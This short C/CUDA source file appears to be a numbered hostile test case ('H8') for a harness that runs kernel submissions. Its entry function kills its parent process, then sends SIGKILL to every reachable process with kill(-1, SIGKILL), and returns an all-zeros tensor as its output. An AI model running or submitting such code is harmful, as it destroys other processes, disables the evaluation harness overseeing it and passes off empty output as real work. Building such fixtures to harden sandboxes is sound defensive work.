// H8: kills whatever it can.
#include <signal.h>
#include <unistd.h>
#include "kernel.cuh"

ENTRY {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  return zeros(O, shape, stream);
}
